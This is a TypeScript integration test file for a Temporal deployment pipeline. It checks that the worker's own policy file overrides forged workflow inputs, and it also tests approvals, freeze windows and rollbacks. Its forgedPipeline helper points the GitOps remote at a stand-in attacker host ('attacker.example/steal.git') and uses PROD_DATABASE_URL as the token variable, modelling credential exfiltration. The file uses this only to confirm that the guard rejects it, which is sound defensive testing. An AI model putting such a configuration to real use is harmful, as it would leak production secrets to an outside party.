/**
 * The pipeline policy belongs to the worker (issue 12): whatever a caller of the Temporal API puts
 * in a workflow's input or a signal — a build command, a GitOps remote, a token variable, gates —
 * the worker's own slipway.yaml decides. Real Temporal, the real build-command activity, the real
 * policy store over a real file; the other outside systems are the in-test world.
 */
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WorkflowFailedError, type Client } from '@temporalio/client';
import { defaultBackupActivities } from '../../activities/backup/index.js';
import { createBuildActivities } from '../../activities/build/index.js';
import { parseConfig } from '../../config/schema.js';
import { environmentWorkflowId, promotionWorkflowId, releaseWorkflowId } from '../../core/ids.js';
import { imagesForCommit } from '../../core/images.js';
import { environmentStateQuery, releaseStatusQuery, requestPromotionSignal } from '../../workflows/messages.js';
import type { PromotionRequest, ReleaseInput, ReleasePipeline } from '../../workflows/types.js';
import { historyText } from '../support/history-scan.js';
import { IMAGES, commitSha, eventually, newWorld, uniqueApp } from '../support/pipelines.js';
import { TestPolicy } from '../support/policy.js';
import { startTestWorker, testClient, type RunningWorker } from '../support/temporal.js';
import { describeFailure, failureChain } from '../support/failures.js';

const WORKER_GITOPS = '/tmp/worker-owned-gitops.git';

let client: Client;
let worker: RunningWorker;
let policy: TestPolicy;
let app: string;
let world: ReturnType<typeof newWorld>;
const markers = mkdtempSync(join(tmpdir(), 'slipway-policy-markers-'));

function policyText(options: { productionApproval: boolean; stagingSoak?: string; productionFreeze?: string }): string {
  return `
gitops: { url: ${WORKER_GITOPS}, branch: main, tokenFromEnv: WORKER_GITOPS_TOKEN }
engine: { heartbeatTimeout: 2s, stepTimeout: 20s }
apps:
  ${app}:
    images: [${IMAGES.join(', ')}]
    build: { command: "touch ${join(markers, 'built-by-worker-policy')}", timeout: 30s }
    environments:
      - name: staging
        overlay: overlays/staging
        argocd: { application: ${app}-staging, timeout: 20s }
        checks: [ { soak: ${options.stagingSoak ?? '1s'} } ]
      - name: production
        overlay: overlays/production
        argocd: { application: ${app}-production, timeout: 20s }
${options.productionApproval ? '        approval: { required: true, timeout: 1h }' : ''}
${options.productionFreeze ? `        freeze: [ ${options.productionFreeze} ]` : ''}
`;
}

/** What a caller could write into its own copy: another build command, remote and token variable, no gates. */
function forgedPipeline(): ReleasePipeline {
  const config = parseConfig(
    `
gitops: { url: "https://attacker.example/steal.git", branch: main, tokenFromEnv: PROD_DATABASE_URL }
engine: { heartbeatTimeout: 2s, stepTimeout: 20s }
apps:
  ${app}:
    images: [${IMAGES.join(', ')}]
    build: { command: "touch ${join(markers, 'built-by-caller')}", timeout: 30s }
    environments:
      - { name: staging, overlay: overlays/staging, argocd: { application: ${app}-staging, timeout: 20s } }
      - { name: production, overlay: overlays/production, argocd: { application: ${app}-production, timeout: 20s } }
`,
    'caller.yaml',
  );
  return { app, appConfig: config.apps[app]!, git: config.gitops, engine: config.engine };
}

beforeAll(async () => {
  client = await testClient();
  app = uniqueApp('owned');
  world = newWorld(app);
  policy = TestPolicy.fromText(policyText({ productionApproval: true }));
  // The real build and backup activities: if the guard let a forged call through, they would act on it.
  const backups = defaultBackupActivities({ ...process.env, SLIPWAY_BACKUP_DIR: mkdtempSync(join(tmpdir(), 'slipway-policy-backups-')) });
  worker = await startTestWorker({ ...world.activities(), ...createBuildActivities(), ...backups }, undefined, policy.store);
});
afterAll(async () => {
  await worker?.stop();
});

async function activityInputs(workflowId: string): Promise<string> {
  const history = await client.workflow.getHandle(workflowId).fetchHistory();
  const scheduled = (history.events ?? []).flatMap((e) => (e.activityTaskScheduledEventAttributes ? [e.activityTaskScheduledEventAttributes.input] : []));
  return historyText(scheduled).join('\n');
}

describe('the worker owns the pipeline policy', () => {
  it('ignores a build command, GitOps remote and token variable sent in a release input, and runs the worker’s', async () => {
    const commit = commitSha();
    const input: ReleaseInput = { app, pipeline: forgedPipeline(), commit, version: '3.1.0', startAt: 'staging', only: true, trigger: 'attacker' };
    const handle = await client.workflow.start('release', { workflowId: releaseWorkflowId(app, commit), taskQueue: worker.taskQueue, args: [input] });
    await eventually(() => handle.query(releaseStatusQuery), (s) => s.stage === 'released' || s.stage === 'failed', 60_000);

    expect(existsSync(join(markers, 'built-by-worker-policy')), 'the worker policy’s build command ran').toBe(true);
    expect(existsSync(join(markers, 'built-by-caller')), 'the caller’s build command never ran').toBe(false);
    const inputs = [await activityInputs(handle.workflowId), await activityInputs(promotionWorkflowId(app, 'staging', commit, 1))].join('\n');
    expect(inputs).toContain(WORKER_GITOPS);
    expect(inputs).not.toContain('attacker.example');
    expect(inputs).not.toContain('PROD_DATABASE_URL');
    const result = await handle.result();
    expect(result.policy?.version).toMatch(/^sha256:[0-9a-f]{16}$/);
    expect(result.policy?.source).toBe(policy.file);
  });

  it('refuses a release of a kind that is neither promote nor rollback, before it asks any environment', async () => {
    const commit = commitSha();
    const handle = await client.workflow.start('release', {
      workflowId: releaseWorkflowId(app, commit),
      taskQueue: worker.taskQueue,
      args: [{ app, commit, trigger: 'attacker', kind: 'skip-the-gates' } as unknown as ReleaseInput],
    });
    const err = await handle.result().catch((e: unknown) => e);
    expect(describeFailure(err)).toMatchObject({ type: 'RequestRefused', message: 'a release is a promote or a rollback, not "skip-the-gates"' });
  });

  it('refuses a release of an app the worker’s policy does not have, before anything runs', async () => {
    const commit = commitSha();
    const handle = await client.workflow.start('release', {
      workflowId: releaseWorkflowId('no-such-app', commit),
      taskQueue: worker.taskQueue,
      args: [{ app: 'no-such-app', pipeline: { ...forgedPipeline(), app: 'no-such-app' }, commit, trigger: 'attacker' } satisfies ReleaseInput],
    });
    const err = await handle.result().catch((e: unknown) => e);
    expect(err).toBeInstanceOf(WorkflowFailedError);
    expect(describeFailure(err)).toMatchObject({ type: 'RequestRefused', message: expect.stringContaining('no app "no-such-app"') });
    const history = await handle.fetchHistory();
    const activities = (history.events ?? []).flatMap((e) => (e.activityTaskScheduledEventAttributes ? [e.activityTaskScheduledEventAttributes.activityType?.name] : []));
    expect(activities).toEqual(['releasePolicy']);
  });

  it('refuses a promotion started directly, not by its environment workflow, without writing anything', async () => {
    const commit = commitSha();
    const before = world.effects().length;
    const request: PromotionRequest = {
      requestId: 'forged#production',
      replyTo: 'forged',
      app,
      environment: forgedPipeline().appConfig.environments[1]!,
      git: forgedPipeline().git,
      engine: forgedPipeline().engine,
      images: imagesForCommit(IMAGES, commit),
      commit,
      requestedAt: Date.now(),
      kind: 'promote',
    };
    const err = await client.workflow
      .execute('promotion', { workflowId: `forged-promotion-${commit}`, taskQueue: worker.taskQueue, args: [{ request, sequence: 1 }] })
      .catch((e: unknown) => e);
    expect(describeFailure(err)).toMatchObject({ type: 'RequestRefused', message: expect.stringContaining(`child of ${environmentWorkflowId(app, 'production')}`) });
    expect(world.effects().slice(before).filter((e) => e.type === 'commit')).toEqual([]);
  });

  it('holds production for approval when a forged request to the environment workflow carries no approval gate', async () => {
    const commit = commitSha();
    // The build passed staging (production takes nothing else), so only the approval gate stands in the way.
    const staged: ReleaseInput = { app, commit, startAt: 'staging', only: true, skipBuild: true, skipTag: true, trigger: 'test' };
    await (await client.workflow.start('release', { workflowId: releaseWorkflowId(app, commit), taskQueue: worker.taskQueue, args: [staged] })).result();
    const before = world.effects().length;
    const request: PromotionRequest = {
      requestId: `forged-${commit}#production`,
      replyTo: `forged-${commit}`,
      app,
      environment: forgedPipeline().appConfig.environments[1]!, // no approval
      git: forgedPipeline().git,
      engine: forgedPipeline().engine,
      images: [{ name: IMAGES[0]!, newTag: 'attacker-image' }],
      commit,
      requestedAt: Date.now(),
      kind: 'promote',
    };
    const env = await client.workflow.signalWithStart('environment', {
      workflowId: environmentWorkflowId(app, 'production'),
      taskQueue: worker.taskQueue,
      args: [{ app, environment: 'production' }],
      signal: requestPromotionSignal,
      signalArgs: [request],
    });
    const state = await eventually(() => env.query(environmentStateQuery), (s) => s.inFlight?.requestId === request.requestId && s.inFlight.phase !== 'queued');
    expect(state.inFlight?.phase).toBe('awaiting-approval');
    expect(world.effects().slice(before).filter((e) => e.type === 'commit')).toEqual([]);
  });

  it('refuses a backup whose input names a worker variable the policy does not give it', async () => {
    const err = await client.workflow
      .execute('backup', {
        workflowId: `forged-backup-${commitSha()}`,
        taskQueue: worker.taskQueue,
        args: [{ app, environment: 'production', databaseUrlFromEnv: 'WORKER_GITOPS_TOKEN', keep: 3, notify: [] }],
      })
      .catch((e: unknown) => e);
    // The backup workflow reports the refusal as its own failure, with the guard's reason.
    expect(failureChain(err).map((f) => f.message).join('\n')).toContain("takeBackup: the database variable it was given is not in the worker's policy");
  });
});

describe('policy versions', () => {
  it('finishes a release under the policy it started with, while the next release gets the changed one', async () => {
    const saved = app;
    app = uniqueApp('pinned');
    const pinnedWorld = newWorld(app);
    const pinned = TestPolicy.fromText(policyText({ productionApproval: true }));
    const pinnedWorker = await startTestWorker(pinnedWorld.activities(), undefined, pinned.store);
    try {
      const first = commitSha();
      const second = commitSha();
      const a = await client.workflow.start('release', {
        workflowId: releaseWorkflowId(app, first),
        taskQueue: pinnedWorker.taskQueue,
        args: [{ app, commit: first, version: '1.0.0', trigger: 'test' } satisfies ReleaseInput],
      });
      await eventually(() => a.query(releaseStatusQuery), (s) => s.environments.find((e) => e.environment === 'production')?.phase === 'awaiting-approval');

      // The owner drops production's approval; a release started now runs under that.
      pinned.write(policyText({ productionApproval: false }));
      const b = await client.workflow.start('release', {
        workflowId: releaseWorkflowId(app, second),
        taskQueue: pinnedWorker.taskQueue,
        args: [{ app, commit: second, version: '1.0.1', trigger: 'test' } satisfies ReleaseInput],
      });
      const production = client.workflow.getHandle(environmentWorkflowId(app, 'production'));
      await eventually(() => production.query(environmentStateQuery), (s) => s.waiting?.releaseId === b.workflowId);
      // The first release still waits for the approval its policy asks for.
      expect((await production.query(environmentStateQuery)).inFlight).toMatchObject({ releaseId: a.workflowId, phase: 'awaiting-approval' });
      await production.executeUpdate('approve', { args: [{ by: 'alice' }] });

      const [ra, rb] = [await a.result(), await b.result()];
      expect(ra.outcome).toBe('released');
      expect(rb.outcome).toBe('released');
      expect(ra.policy?.version).not.toBe(rb.policy?.version);
      const phasesOfB = (await b.fetchHistory()).events?.flatMap((e) =>
        e.workflowExecutionSignaledEventAttributes?.signalName === 'promotionProgress' ? historyText(e.workflowExecutionSignaledEventAttributes.input) : [],
      );
      expect(phasesOfB?.join('\n')).not.toContain('awaiting-approval');
    } finally {
      await pinnedWorker.stop();
      app = saved;
    }
  });
});

describe('emergency rollback', () => {
  it('goes through a freeze window without approval and is recorded as such, while a promotion waits the window out', async () => {
    const saved = app;
    app = uniqueApp('frozen');
    const frozenWorld = newWorld(app);
    const frozen = TestPolicy.fromText(policyText({ productionApproval: false }));
    const frozenWorker = await startTestWorker(frozenWorld.activities(), undefined, frozen.store);
    const release = async (commit: string, extra: Partial<ReleaseInput> = {}) =>
      client.workflow.start('release', {
        workflowId: `${extra.kind ?? 'release'}/${app}/${commit}`,
        taskQueue: frozenWorker.taskQueue,
        args: [{ app, commit, skipBuild: true, skipTag: true, trigger: 'test', ...extra } satisfies ReleaseInput],
      });
    try {
      const [good, later, next] = [commitSha(), commitSha(), commitSha()];
      expect((await (await release(good)).result()).outcome).toBe('released');
      expect((await (await release(later)).result()).outcome).toBe('released');

      // Now production is frozen all the time, and needs approval for promotions.
      frozen.write(policyText({ productionApproval: true, productionFreeze: '{ cron: "* * * * *", duration: 2h, reason: change freeze }' }));
      const promotion = await release(next);
      await eventually(() => promotion.query(releaseStatusQuery), (s) => s.environments.find((e) => e.environment === 'production')?.phase === 'frozen');
      await promotion.cancel();
      await promotion.result().catch(() => undefined);

      const rollback = await release(good, { startAt: 'production', only: true, kind: 'rollback', trigger: 'cli:oncall' });
      expect((await rollback.result()).outcome).toBe('released');
      const state = await client.workflow.getHandle(environmentWorkflowId(app, 'production')).query(environmentStateQuery);
      expect(state.current?.commit).toBe(good);
      const record = state.recent.find((r) => r.releaseId === rollback.workflowId)!;
      expect(record).toMatchObject({ kind: 'rollback', outcome: 'promoted', policyVersion: expect.stringMatching(/^sha256:/) });
      expect(record.notes?.join(' ')).toMatch(/emergency rollback during the freeze window \(change freeze\) until /);
      expect(record.approvedBy).toBeUndefined();
      const production = frozenWorld.effects().flatMap((e) => (e.type === 'commit' && e.overlay === 'overlays/production' ? [e.context.sourceCommit] : []));
      expect(production).toEqual([good, later, good]);
    } finally {
      await frozenWorker.stop();
      app = saved;
    }
  });

  it('refuses a rollback to a build that never ran in that environment', async () => {
    const target = commitSha();
    const handle = await client.workflow.start('release', {
      workflowId: `rollback/${app}/staging/${target}`,
      taskQueue: worker.taskQueue,
      args: [{ app, commit: target, startAt: 'staging', only: true, skipBuild: true, skipTag: true, kind: 'rollback', trigger: 'attacker' } satisfies ReleaseInput],
    });
    const err = await handle.result().catch((e: unknown) => e);
    expect(describeFailure(err)).toMatchObject({ type: 'RequestRefused', message: expect.stringContaining('never ran in staging: a rollback goes back only to a build that did') });
  });
});

describe('approvals under the policy', () => {
  it('needs two different approvers where the policy says two, and records both with the policy version', async () => {
    const saved = app;
    app = uniqueApp('twice');
    const twiceWorld = newWorld(app);
    const twice = TestPolicy.fromText(policyText({ productionApproval: false }).replace(
      `argocd: { application: ${app}-production, timeout: 20s }`,
      `argocd: { application: ${app}-production, timeout: 20s }\n        approval: { timeout: 1h, count: 2, approvers: { users: [alice, bob] } }`,
    ));
    const twiceWorker = await startTestWorker(twiceWorld.activities(), undefined, twice.store);
    try {
      const commit = commitSha();
      const handle = await client.workflow.start('release', {
        workflowId: releaseWorkflowId(app, commit),
        taskQueue: twiceWorker.taskQueue,
        args: [{ app, commit, version: '5.0.0', skipBuild: true, skipTag: true, trigger: 'cli:carol', requestedBy: 'carol' } satisfies ReleaseInput],
      });
      await eventually(() => handle.query(releaseStatusQuery), (s) => s.environments.find((e) => e.environment === 'production')?.phase === 'awaiting-approval');
      const production = client.workflow.getHandle(environmentWorkflowId(app, 'production'));
      const approve = (by: string) => production.executeUpdate('approve', { args: [{ by }] }).then(() => 'ok', (e: unknown) => describeFailure(e).message);
      expect(await approve('mallory')).toContain('mallory is not among the approvers');
      expect(await approve('alice')).toBe('ok');
      expect((await production.query(environmentStateQuery)).inFlight?.phase).toBe('awaiting-approval');
      expect(await approve('alice')).toContain('alice has approved 5.0.0');
      expect(await approve('bob')).toBe('ok');
      expect((await handle.result()).outcome).toBe('released');
      const record = (await production.query(environmentStateQuery)).recent[0]!;
      expect(record).toMatchObject({ approvedBy: 'cli:alice, cli:bob', policyVersion: expect.stringMatching(/^sha256:/) });
      expect(record.approvals?.map((a) => [a.by, a.channel, typeof a.at])).toEqual([
        ['alice', 'cli', 'number'],
        ['bob', 'cli', 'number'],
      ]);
      const child = await client.workflow.getHandle(promotionWorkflowId(app, 'production', commit, 1)).describe();
      expect(child.memo).toMatchObject({ approvedBy: 'cli:alice, cli:bob', policyVersion: record.policyVersion });
    } finally {
      await twiceWorker.stop();
      app = saved;
    }
  });
});
